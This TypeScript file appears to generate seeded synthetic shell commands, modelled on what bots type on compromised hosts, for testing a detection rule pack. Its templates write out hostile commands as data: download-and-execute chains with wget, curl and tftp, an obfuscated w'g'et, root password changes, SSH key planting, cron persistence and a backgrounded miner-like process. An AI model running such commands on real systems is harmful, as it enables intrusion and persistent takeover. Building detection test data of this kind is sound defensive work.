/** Hosts that commands name; documentation ranges only. */
const NETWORKS = ["192.0.2.", "198.51.100.", "203.0.113."];

/** Lines as bots type them; `@host`, `@file`, `@dir`, `@word` and `@number` are filled in. */
const TEMPLATES: readonly string[] = [
  "uname -a",
  "cat /proc/cpuinfo | grep name | wc -l",
  "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
  "ls -lh $(which ls)",
  "cd @dir || cd /var/run || cd /mnt; wget http://@host/@file; chmod 777 @file; sh @file",
  "cd @dir; curl -O http://@host/@file.sh; sh @file.sh; rm -rf @file.sh",
  "/bin/busybox @word",
  "enable; system; shell; sh; /bin/busybox @word",
  'echo "root:@word@number" | chpasswd',
  "cat /etc/passwd",
  "crontab -l | grep @file",
  "echo '*/@number * * * * @dir/@file' | crontab -",
  "cd ~; chattr -ia .ssh; mkdir -p .ssh; echo ssh-rsa @word >> .ssh/authorized_keys",
  "rm -rf @dir/@file",
  "pkill -9 @word",
  "ps aux | grep @word",
  "which @file && echo found",
  "export PATH=$PATH:@dir; ./@file --threads=@number",
  "nohup @dir/@file -o @host:@number >/dev/null 2>&1 &",
  "cp /bin/echo @file; >@file; dd bs=52 count=1 if=.s || cat .s",
  'echo -e "\\x41\\x4b\\x34" > @dir/@file',
  "echo @word@number; ls @dir",
  "cd @dir",
  "ls -la @dir/@file",
  "echo @word > @dir/@file && cat @dir/@file",
  "tftp -g -r @file @host",
  "w'g'et http://@host/@file -O @dir/@file",
  "touch @dir/@file@number",
  "mv @file @dir/@word",
  "grep -c @word @dir/@file",
];

/** Lines that no rule of the pack is about. */
const QUIET_TEMPLATES: readonly string[] = [
  "cd @dir",
  "echo @word@number",
  "pwd",
  "make @word",
  "vi @dir/@word@number.txt",
  "sort @word@number.txt",
];

/** A generator of numbers below one that gives the same ones for a seed; mulberry32. */
export function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ state >>> 15, 1 | state);
    mixed = mixed + Math.imul(mixed ^ mixed >>> 7, 61 | mixed) ^ mixed;
    return ((mixed ^ mixed >>> 14) >>> 0) / 4_294_967_296;
  };
}

/** What a made command is like. */
export interface CommandChoice {
  /** The same seed gives the same commands. */
  readonly seed: number;
  /** Only commands that no rule is about. */
  readonly quiet?: boolean;
}

/** Makes commands, nearly all of them different from each other. */
export function attackCommands(count: number, { seed, quiet }: CommandChoice): readonly string[] {
  const random = seeded(seed);
  const templates = quiet === true ? QUIET_TEMPLATES : TEMPLATES;
  return Array.from(
    { length: count },
    () =>
      pick(templates, random).replace(
        /@(host|file|dir|word|number)/g,
        (_, kind: string) => filling(kind, random),
      ),
  );
}

function filling(kind: string, random: () => number): string {
  switch (kind) {
    case "host":
      return `${pick(NETWORKS, random)}${Math.floor(random() * 254) + 1}`;
    case "dir":
      return pick(["/tmp", "/var/tmp", "/dev/shm", "/root", "/opt"], random);
    case "number":
      return String(Math.floor(random() * 60_000) + 1);
    default:
      return letters(5 + Math.floor(random() * 5), random);
  }
}

function letters(length: number, random: () => number): string {
  return Array.from(
    { length },
    () => String.fromCharCode(97 + Math.floor(random() * 26)),
  ).join("");
}

function pick<T>(items: readonly T[], random: () => number): T {
  return items[Math.floor(random() * items.length)]!;
}
